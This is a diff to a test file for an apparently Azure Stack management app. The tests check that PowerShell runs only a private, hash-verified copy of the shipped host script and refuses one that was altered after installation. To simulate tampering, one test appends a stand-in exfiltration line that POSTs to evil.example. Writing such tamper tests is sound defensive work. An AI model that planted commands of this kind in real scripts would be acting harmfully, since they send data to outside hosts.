@@ -1,8 +1,8 @@
 import { randomUUID } from 'node:crypto';
-import { readFileSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import { chmod, mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { DEFAULT_PRACTICE_SCENARIO } from '../../../shared/contract';
 import type { PepConnected, Settings } from '../../../shared/contract';
@@ -17,10 +17,10 @@ import { FAST_PRACTICE, startPracticeMachine } from '../../fixtures/app/practice
 const RESOURCES = join(import.meta.dirname, '..', '..', '..', 'resources');
 const PWSH: Settings = { powershell: { kind: 'pwsh', path: '/opt/microsoft/powershell/7/pwsh' }, registrationApiVersion: '2022-06-01' };
 
-const runtimeAt = async (dataDir: string, extra: { pepHostSha256?: string; log?: ReturnType<typeof memoryLogger> } = {}) =>
+const runtimeAt = async (dataDir: string, extra: { pepHostSha256?: string; log?: ReturnType<typeof memoryLogger>; resourcesDir?: string } = {}) =>
   createRuntime({
     dataDir,
-    resourcesDir: RESOURCES,
+    resourcesDir: extra.resourcesDir ?? RESOURCES,
     appVersion: '0.0.0-test',
     platform: 'linux',
     systemRoot: 'C:\\Windows',
@@ -145,12 +145,9 @@ describe('settings', () => {
     await host.runtime.dispose();
   });
 
-  it('starts the configured pwsh with the host script in live mode', async () => {
+  it('starts the configured pwsh in live mode on a private, verified copy of the host script, removed after', async () => {
     const dir = await mkdtemp(join(tmpdir(), 'azs-pwsh-'));
-    // Stands in for pwsh: records how it was started, then exits without a greeting.
-    const fakePwsh = join(dir, 'pwsh');
-    await writeFile(fakePwsh, `#!/bin/sh\nprintf '%s\\n' "$0" "$@" > '${join(dir, 'argv.txt')}'\n`);
-    await chmod(fakePwsh, 0o755);
+    const fakePwsh = await recordingPwsh(dir);
     const rt = await runtimeAt(await mkdtemp(join(tmpdir(), 'azs-settings-')), {
       pepHostSha256: scriptDigest(readFileSync(join(RESOURCES, 'pep-host.ps1'))),
     });
@@ -160,7 +157,38 @@ describe('settings', () => {
     expect(report).toMatchObject({ ok: true, value: { ok: false } });
     const argv = (await readFile(join(dir, 'argv.txt'), 'utf8')).trim().split('\n');
     expect(argv[0]).toBe(fakePwsh);
-    expect(argv.slice(1)).toEqual(['-NoLogo', '-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-File', join(RESOURCES, 'pep-host.ps1')]);
+    expect(argv.slice(1, -1)).toEqual(['-NoLogo', '-NoProfile', '-NonInteractive', '-ExecutionPolicy', 'Bypass', '-File']);
+    const copy = argv.at(-1) ?? '';
+    expect(copy).not.toBe(join(RESOURCES, 'pep-host.ps1'));
+    expect(copy).toMatch(new RegExp(`^${tmpdir().replace(/[\\^$.*+?()[\]{}|/]/g, '\\$&')}/azs-pep-[^/]+/pep-host\\.ps1$`));
+    // PowerShell ran exactly the shipped bytes, and the private folder is gone once it exited.
+    expect(await readFile(join(dir, 'ran.ps1'))).toEqual(readFileSync(join(RESOURCES, 'pep-host.ps1')));
+    expect(existsSync(dirname(copy))).toBe(false);
+    await rt.dispose();
+  });
+
+  it('never starts PowerShell on a host script changed after installation (live composition)', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'azs-pwsh-'));
+    const fakePwsh = await recordingPwsh(dir);
+    const resources = await mkdtemp(join(tmpdir(), 'azs-resources-'));
+    const shipped = readFileSync(join(RESOURCES, 'pep-host.ps1'));
+    await writeFile(join(resources, 'pep-host.ps1'), Buffer.concat([shipped, Buffer.from('\nInvoke-WebRequest https://evil.example/ -Method Post\n')]));
+    const rt = await runtimeAt(await mkdtemp(join(tmpdir(), 'azs-settings-')), { pepHostSha256: scriptDigest(shipped), resourcesDir: resources });
+    await rt.dispatch('app.setMode', { mode: 'live' });
+    await rt.dispatch('settings.set', { powershell: { kind: 'pwsh', path: fakePwsh }, registrationApiVersion: '2017-06-01' });
+    const report = await rt.dispatch('pep.preflight', { hosts: ['127.0.0.1'] });
+    expect(report).toMatchObject({ ok: true, value: { ok: false, checks: expect.arrayContaining([expect.objectContaining({ id: 'powershell', ok: false, detail: expect.stringContaining('changed or damaged') })]) } });
+    const connect = await rt.dispatch('pep.connect', { hosts: ['127.0.0.1'], user: 'AZURESTACK\\CloudAdmin', password: 'x' });
+    expect(connect).toMatchObject({ ok: false, problem: { code: 'pep-failed', message: expect.stringContaining('changed or damaged') } });
+    expect(existsSync(join(dir, 'argv.txt'))).toBe(false);
     await rt.dispose();
   });
 });
+
+/** Stands in for pwsh: records how it was started and the script it was given, then exits without a greeting. */
+const recordingPwsh = async (dir: string): Promise<string> => {
+  const fakePwsh = join(dir, 'pwsh');
+  await writeFile(fakePwsh, `#!/bin/sh\nprintf '%s\\n' "$0" "$@" > '${join(dir, 'argv.txt')}'\ncp "$7" '${join(dir, 'ran.ps1')}'\n`);
+  await chmod(fakePwsh, 0o755);
+  return fakePwsh;
+};
